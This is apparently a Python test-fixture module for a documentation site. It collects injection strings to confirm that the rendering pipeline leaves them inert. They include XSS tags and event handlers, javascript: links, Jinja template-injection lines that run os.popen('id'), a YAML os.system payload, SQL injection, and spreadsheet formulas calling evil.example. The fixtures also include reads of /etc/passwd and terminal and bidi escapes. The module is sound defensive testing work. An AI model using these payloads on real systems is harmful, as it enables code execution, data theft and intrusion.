"""Texts that mean something to HTML, Markdown, its extensions, Jinja, a terminal, a spreadsheet or a reviewer's eyes,
and have to mean nothing here. What would run calls ``alert``, which a test's browser counts.
"""

from __future__ import annotations

import itertools
import json
import re
from typing import NamedTuple

from tools import audits

PAYLOAD = '"><script>alert(1)</script>{{ 7*7 }} *x* [a](javascript:alert(1)) --8<-- "README.md"'
"""A little of everything, for tests that need one text."""

OWN: dict[str, tuple[str, ...]] = {
    "script": (
        PAYLOAD,
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<script\x20type="text/javascript">alert(1);</script>',
        "<script>alert(1)//",
        "<script>alert(1)</script",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/src=data:,alert(1)></script>",
        "<svg><script>alert&#40;1)</script></svg>",
        "<svg><script xlink:href=data:,alert(1) /></svg>",
        "<math><mtext></mtext><script>alert(1)</script></math>",
        "<noscript><p title='</noscript><script>alert(1)</script>'>",
        "<template><script>alert(1)</script></template>",
        "<iframe srcdoc='<script>parent.alert(5)</script>'></iframe>",
        "<iframe src=javascript:parent.alert(1)></iframe>",
        "<object data='data:text/html,<script>alert(1)</script>'></object>",
        "<embed src=//evil.example/x.swf>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example/x.html>",
        "<style>@import '//evil.example/x.css'; * { display: none }</style>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<base href=//evil.example/>",
        "<form action=//evil.example/><input name=x><button>go</button></form>",
        "';alert(1);//",
        '";alert(1);//',
        "`${alert(1)}`",
        "</script><script>alert(1)</script>",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "＜script＞alert(9)＜/script＞",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<?php echo 1 ?> <?xml version='1.0'?> <% alert(1) %>",
    ),
    "attributes": (
        '" autofocus onfocus=alert(4) x="',
        "' autofocus onfocus=alert(4) x='",
        '\' autofocus onfocus=alert(4) x=\' " onmouseover="alert(4)" y="',
        '" style="position:fixed;inset:0" onclick="alert(4)',
        "x onmouseover=alert(4)",
        "><img src=x onerror=alert(5)>",
        "<img src=x onerror=alert(5)> <svg/onload=alert(5)> <iframe srcdoc='<script>alert(5)</script>'>",
        "<img src=`x`onerror=alert(5)>",
        "<img/src='x'/onerror=alert(5)>",
        "<img src=//evil.example/pixel.png>",
        "<img srcset='//evil.example/a 1x' alt=x>",
        "<svg onload=alert(5)>",
        "<svg><animate onbegin=alert(5) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(5)>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(5)/>#x'/></svg>",
        "<body onload=alert(5)> <html onload=alert(5)>",
        "<details open ontoggle=alert(5)>x</details>",
        "<video><source onerror=alert(5)></video> <audio src=x onerror=alert(5)>",
        "<input autofocus onfocus=alert(5)> <select autofocus onfocus=alert(5)>",
        "<marquee onstart=alert(5)>x</marquee>",
        "<a href=x onclick=alert(5)>x</a> <button formaction=javascript:alert(5)>x</button>",
        "<p style=background:url(//evil.example/x)>x</p>",
        "<div id=__config>{}</div><a name=base href=x>",
        "<x onpointerrawupdate=alert(5) tabindex=1 autofocus onfocus=alert(5)>",
    ),
    "closing tags": (
        "</title><script>alert(2)</script><title>",
        "</title><script>alert(2)</script>",
        "</textarea></style></noscript></script></a></h1></p></article><script>alert(3)</script>",
        "</textarea><script>alert(3)</script>",
        "</style><img src=x onerror=alert(3)>",
        "--></script></style><svg onload=alert(3)>",
        "<!-- --><!--><script>alert(6)</script>--> ]]><![CDATA[ <!DOCTYPE x>",
        "<!--",
        "--!><img src=x onerror=alert(6)>",
        "<![CDATA[<script>alert(6)</script>]]>",
        "]]></summary></entry></feed><script>alert(6)</script>",
        "</text></svg><img src=x onerror=alert(6)>",
        "</h1></header></main></body></html><p>gone",
        "<plaintext>",
        "<xmp><listing><textarea><title>",
        "</li></ul></td></tr></table></details></blockquote></div></div></div>",
        "<",
        "</",
        "<!",
        "<a",
        "&lt;/title&gt;&lt;script&gt;alert(2)&lt;/script&gt;",
    ),
    "addresses": (
        "javascript:alert(8)",
        "JaVaScRiPt:alert(8)",
        "java\tscript:alert(8)",
        "javascript&colon;alert(8)",
        "data:text/html,<script>alert(8)</script>",
        "vbscript:msgbox(8)",
        '[a](javascript:alert(8)) <javascript:alert(8)> [b]: javascript:alert(8) ![c](x "y") [d][e] [[f]]',
        "[x](//evil.example/) [x](https://evil.example/ 'title')",
        "![x](//evil.example/pixel.png)",
        "![x](https://evil.example/pixel.png){ loading=lazy }",
        "<https://evil.example/> <a@evil.example>",
        "https://evil.example/x?y=z#w www.evil.example a@evil.example git@x:y",
        "http://evil.example",
        "//evil.example/",
        "mailto:a@evil.example?subject=x",
        "[x]: https://evil.example",
        "[click](vbscript:alert(8)) [click](<javascript:alert(8)>)",
        "[[wiki link]] [[https://evil.example|x]]",
        "file:///etc/passwd \\\\evil.example\\share",
        "[a](index.md) [b](../../mkdocs.yml) [c](#__search)",
    ),
    "markdown": (
        "# Heading",
        "## Heading { #id .class }",
        "- item",
        "* item",
        "+ item",
        "1. one",
        "1) one",
        "> quote",
        "***",
        "===",
        "| a | b |",
        "```",
        "~~~",
        "    indented",
        "!!! note",
        '!!! danger "Official notice"',
        "??? tip",
        '=== "tab"',
        "/// note",
        "[^1] [^1]: note",
        "*[HTML]: x",
        "term : definition",
        ": definition",
        "- [ ] task - [x] done",
        '# Heading - item * item 1. one > quote | a | b | !!! note ??? tip === "tab" [^1] [ ] task : def',
        "*a* **b** _c_ __d__ ***e*** \\*f\\* a_b_c \\\\ \\",
        "~~~ x ``` y ``` `z` ~~~~ == mark == ^sup^ ~sub~ ++ins++ {++add++} {--del--} {>>c<<}",
        '++ctrl+alt+delete++ *[HTML]: x [toc] [TOC] [^note] {==x==} [=50% "x"]',
        "[TOC]",
        "==marked== ~~gone~~ ^^new^^ H~2~O x^2^",
        "{~~old~>new~~} {>>remark<<}",
        "$$x^2$$ \\(y\\) $z$ \\[ w \\]",
        "`#!python import os`",
        "\\",
        "\\\\",
        "`",
        "``",
        "*",
        "_",
        "word  ",
        "1st 2nd 3rd (c) (tm) +/- 1/2 --> <-- =/= ... -- 'quoted' \"quoted\" c/o",
        "1990. A great year",
        "2 + 2 > 3",
        "klzzwxh:0000 wzxhzdk:1 \x30",
        "a  two  spaces",
    ),
    "attribute lists": (
        "word {: onclick=alert(7) } { #x .y onclick=alert(7) } {: #other }",
        "{: onclick=alert(7) }",
        "{: .md-hidden style=display:none }",
        "x{: #__search }",
        "{ .annotate }",
        "{#id .class key=value}",
        "*x*{: title='y' onmouseover=alert(7) }",
        "{:target=_blank}",
        "} {",
        "{: #explainer-claims data-md-component=search }",
    ),
    "jinja": (
        "{{ config }} {% raw %} {# note #} {{ self.__class__.__mro__ }} {% include 'x' %}",
        "{{ 7*7 }}",
        "{{ 7*'7' }}",
        "${7*7} #{7*7} <%= 7*7 %>",
        "{% raw %}",
        "{% endraw %}{{ config }}",
        "{# comment",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% extends 'x' %}{% block content %}x{% endblock %}",
        "{{ x",
        "}} %} #}",
        "{% for x in config %}{{ x }}{% endfor %}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{site} %(site)s %s {0} {}",
    ),
    "snippets": (
        '--8<-- "README.md"',
        '--8<-- "mkdocs.yml" ;--8<-- "x"',
        "--8<--",
        '-8<- "mkdocs.yml"',
        '--8<-- "https://evil.example/x.md"',
        '![[x]] {{{ x }}} ::: note /// tip %% x %% --8<-- "mkdocs.yml" ;--8<--',
        "::: explainer.plugin",
        "{!mkdocs.yml!}",
        "{% include-markdown 'mkdocs.yml' %}",
        '<!-- include: mkdocs.yml --> {% include "mkdocs.yml" %}',
    ),
    "emoji": (
        ":material-account: :smile: :fontawesome-brands-github: :x: ;)",
        ":smile:",
        ":material-skull-crossbones:{ .heart }",
        ":+1: :-1: :octocat:",
        "👍🏽 👩‍🚒 🇰🇵 1️⃣ ☠️ 🏴",
        ":fontawesome-solid-skull::smile::",
    ),
    "mermaid": (
        "```mermaid graph LR; A-->B; click A call alert(1) ```",
        "~~~mermaid graph TD; A[<img src=x onerror=alert(1)>] ~~~",
        "graph LR; A-->B; click A javascript:alert(1)",
        '<pre class="mermaid">graph LR; A-->B</pre>',
        "%%{init: {'securityLevel': 'loose'}}%%",
        '<div class="mermaid">graph LR; A["<script>alert(1)</script>"]</div>',
    ),
    "front matter": (
        "--- title: other template: x.html ---",
        "---",
        "title: other",
        "template: x.html",
        "...",
        "hide: [navigation, toc] search: {exclude: true}",
        "!!python/object/apply:os.system ['id']",
        "*alias &anchor <<: *alias",
        "null",
        "yes",
        "2024-01-01",
        "0x10",
        "'",
        '"',
        "%YAML 1.2",
        "key: value # comment",
        "{a: b, c: [d]}",
        "| block",
        "> folded",
        "@at",
        "%TAG",
    ),
    "entities": (
        "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &copy &#x3c; %3Cscript%3E \\u003cscript\\u003e",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;",
        "&#60;&#115;cript&#62;",
        "&#0; &#x110000; &#xD800; &#128;",
        "&notin; &not; &para &lt",
        "&",
        "&#",
        "AT&T R&D a&b=c",
        "\\u003cimg src=x onerror=alert(1)\\u003e",
        "&#x202e;desrever",
    ),
    "line breaks": (
        "one\ntwo\n\n# three\n---\n\n    four\n\n!!! note\n\n- five\n| six |\n\tseven",
        "a\n\n<script>alert(1)</script>\n\nb",
        "a\n---\ntitle: x\n---\nb",
        "a\n```\nb\n```\nc",
        "statement\nEND:VEVENT\nBEGIN:VALARM\nACTION:DISPLAY",
        "a\nER  - \nTY  - BOOK\nTI  - other",
        "a\n<source>: other #tag {x: y}",
        "a\n::error file=x::injected\n::set-output name=x::y",
        "a\n\n\n\n\nb",
        "over\rwritten",
        "a\r\nb",
        "error[bad-id]: all of this is fine\n --> data/claims/a.yml:1:1",
    ),
    "formats": (
        "END:VEVENT",
        "\\n \\; \\, ;:,",
        "BEGIN:VALARM;X=1:x",
        "ER  - ",
        "TY  - BOOK",
        "@misc{x, title={y}}",
        "} , author = {Somebody",
        "\\input{/etc/passwd} \\write18{id} $x^2$ 50% {\\bf x}",
        "``quoted'' --- ~x~ ,, << >>",
        "[claim]: other #tag",
        "<+ [claim]",
        "+> <source>",
        "#opinion @[claim] @<source>",
        "{color: red} // comment /* x */",
        'a,b;c\td|e "f" ""g""',
        "'; DROP TABLE claims; --",
        "' OR '1'='1",
        '{"a": 1} "\\" \\u0000',
        "a: [b, {c: d}]",
        "@context @id @type _:b0 <urn:x>",
        "[Link](x): text. > quote",
    ),
    "formulas": (
        "=cmd|' /C calc'!A0 +1 -1 @SUM(1)",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        '=HYPERLINK("https://evil.example","x")',
        '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
        "'=1+1",
        '"=1+1"',
        "x;=1+1",
        "x\t=1+1",
        "＝1+1",
        '",=1+1,"',
        "%0A=1+1",
        "|=1+1",
    ),
    "mentions": (
        "@octocat",
        "` @octocat `",
        "#1",
        "x/y#2",
        "GH-1",
        "octocat/hello-world@a5c3785ed8d6a35868bc169f07e40e889087fd2e",
        "a5c3785ed8d6a35868bc169f07e40e889087fd2e",
        "https://github.com/o/r/pull/1",
        "https://example.org/x?y=z#w www.example.org a@example.org #1 @user org/repo#2 git@x:y",
        "@org/team please approve",
        "Fixes #1 closes #2",
        "`<img src=x onerror=alert(1)>`",
        "``` @octocat ```",
        "<details><summary>x</summary>",
        "<!-- hidden from reviewers -->",
        "[approved](https://evil.example) ![](https://evil.example/x.png)",
    ),
    "letters": (
        "“curly” ‘single’ «guillemets» „low“ it’s – — … × ÷ ½ ² ™",
        "Владимир 김정은 習近平 مرحبا שלום नमस्ते ไทย 🇰🇵 é ﬁ",
        "می‌خواهم क्‍ष",
        "ｆｕｌｌｗｉｄｔｈ ＜＞ ﹤script﹥ ‹script›",
        "İstanbul ıspanak ẞ ß ŉ ǰ",
        "e\u0301 \u00e9 n\u0303",
        "раураl аррlе",
        "a\u00a0b\u2003c\u3000d",
        "ab𝒞𝓈 𐍈 𠜎",
        "x" * 300,
        "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    ),
}
"""Texts that pass the check and have to arrive as they are, by family."""

REFUSED: dict[str, tuple[str, ...]] = {
    "bidi and invisible characters": (
        "\u202egnp.exe\u202c",
        "safe\u2066 \u2067hidden\u2069",
        "a\u200bb",
        "a\u200eb\u200fc",
        "a\u00adb",
        "\ufeffstart",
        "a\u2060b\u2063c",
        "a\u034fb",
        "a\u061cb",
        "\u115f\u1160\u3164\uffa0",
        "x\U000e0041\U000e0042\U000e007f",
        "a\ufe01b",
        "\u2028line\u2029paragraph",
        "a\u180eb",
        "\ufff9a\ufffab\ufffb",
        "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */",
    ),
    "terminal escapes": (
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b[2J\x1b[H",
        "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
        "\x9b31mred",
        "\x1b[1A\x1b[2Kno findings",
        "\x08\x08\x08gone",
        "\x1b]52;c;ZXZpbA==\x07",
        "\x1bP+q544e\x1b\\",
        "\x0e\x0f\x05",
    ),
    "control characters": (
        "a\x00b",
        "a\x07b",
        "a\x0bb\x0cc",
        "a\x7fb",
        "a\x85b\x9fc",
        "\x01\x02\x1f",
        "a\ufffeb\uffffc",
        "a\ufdd0b",
    ),
}
"""Texts that the check refuses, by family: no encoding makes them harmless to a reviewer."""

FAMILIES = {name: texts[0] for name, texts in OWN.items()}
"""One text of each family that may be published."""


class Payload(NamedTuple):
    """A text and the family it is of."""

    family: str
    text: str


PUBLIC = "public list"


def own() -> list[Payload]:
    """Our own texts that may be published."""
    return [Payload(family, text.strip()) for family, texts in OWN.items() for text in texts]


def refused() -> list[Payload]:
    """Our own texts that may not."""
    return [Payload(family, text) for family, texts in REFUSED.items() for text in texts]


def public() -> list[Payload]:
    """Those of a list that many projects test with: https://github.com/minimaxir/big-list-of-naughty-strings (MIT)."""
    return [Payload(PUBLIC, text) for text in dict.fromkeys(map(str.strip, _naughty())) if text]


def _naughty() -> list[str]:
    assert audits.is_installed(), audits.ADVICE
    texts: list[str] = json.loads(audits.NAUGHTY.read_text(encoding="utf-8"))
    return texts


_PIECES = (
    *"<>&\"'`*_[](){}!~|\\:^+-=$%@/.,?#;0123456789",
    "<b>", "</b>", "<script>", "&lt;", "&#42;", "[a](b)", "![", "](", "[^1]", "[x]:", "**", "__", "``", "~~", "==",
    "++", "--", "{{", "}}", "{%", "%}", "{:", "{#", "::", "//", "\\\\", "!!!", "???", "```", "~~~", "1.", "1)", "1st",
    "(c)", ":x:", "--8<--", "$$", "\\(", "klzzwxh:0000", "wzxhzdk:1", "www.a.org", "http://a", "a@b.c", "javascript:",
)  # fmt: skip


def nasty() -> list[str]:
    """About 500 texts on one line: ours, and pieces alone, twice, and at the start, the end and within words."""
    shapes = ("{0}", "{0}{0}", "{0} word {0}", "word{0}word", "{0}word{0}")
    made = [shape.format(piece) for piece, shape in itertools.product(_PIECES, shapes)]
    return list(dict.fromkeys([*(one_line(payload.text) for payload in own()), *made]))


def one_line(text: str) -> str:
    """A text as a page shows it: every run of white space is one space."""
    return " ".join(text.split())


def escaped(text: str) -> str:
    """The text as an editor writes it in a Prose field, so that it reads the same: every sign behind a backslash."""
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)
